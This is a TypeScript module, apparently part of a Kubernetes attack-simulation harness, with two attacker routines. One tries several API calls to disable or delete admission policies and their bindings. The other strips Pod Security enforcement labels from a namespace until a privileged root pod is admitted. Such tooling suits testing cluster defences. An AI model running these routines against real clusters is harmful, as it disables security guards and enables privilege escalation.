import type { Attempt, Gain } from '../attacker';
import { isDone } from '../creating';
import { until } from '../playing-field';
import { RUN_ROOT } from '../workloads';

const POLICIES = '/apis/admissionregistration.k8s.io/v1';

/** Removes the policies that stop the attacker, or lets them refuse nothing. */
export async function removesGuards({ field, me, send }: Attempt): Promise<readonly Gain[]> {
  for (const { name, namespace } of me.guards) {
    for (const [kind, harmless] of [
      ['validatingadmissionpolicies', { validations: [{ expression: 'true' }] }],
      ['validatingadmissionpolicybindings', { validationActions: ['Audit'] }],
    ] as const) {
      const path = `${POLICIES}/${kind}/${name}`;
      const stored = (await field.admin('GET', path)).body;
      if (stored?.metadata?.name !== name) continue;
      // Who may only update has to try out the version of the object, which is a number.
      const changed = { ...stored, spec: { ...stored.spec, ...harmless } };
      const isRemoved =
        isDone(await send('PATCH', path, { spec: harmless })) ||
        isDone(await send('PUT', path, changed)) ||
        isDone(await send('DELETE', path)) ||
        isDone(await send('DELETE', `${POLICIES}/${kind}?fieldSelector=metadata.name=${name}`));
      if (!isRemoved) continue;
      await until(`the guard ${name} to be gone`, () => field.admits(namespace, 'configmaps', { metadata: { name } }));
      return [{ does: 'removes the admission policies that are the guards', to: 'more' }];
    }
  }
  return [];
}

export async function removesLabels({ field, send }: Attempt, place: string): Promise<readonly Gain[]> {
  const label = 'pod-security.kubernetes.io/enforce';
  const path = `/api/v1/namespaces/${place}`;
  const isEnforced = async () => (await field.must('GET', path)).metadata.labels?.[label] !== undefined;
  if (!(await isEnforced())) return [];
  const { metadata, ...rest } = await field.must('GET', path);
  const { [label]: _removed, ...labels } = metadata.labels;
  const { resourceVersion: _any, ...kept } = metadata;
  const changed = { ...rest, metadata: { ...kept, labels } };
  for (const subresource of ['', '/status', '/finalize']) {
    await send('PATCH', `${path}${subresource}`, { metadata: { labels: { [label]: null } } });
    if (await isEnforced()) await send('PUT', `${path}${subresource}`, changed);
    if (await isEnforced()) continue;
    const pod = { metadata: { name: 'root' }, spec: RUN_ROOT };
    await until(`${place} to admit privileged pods`, () => field.admits(place, 'pods', pod));
    return [{ does: `removes the Pod Security labels of ${place}`, to: 'more' }];
  }
  return [];
}
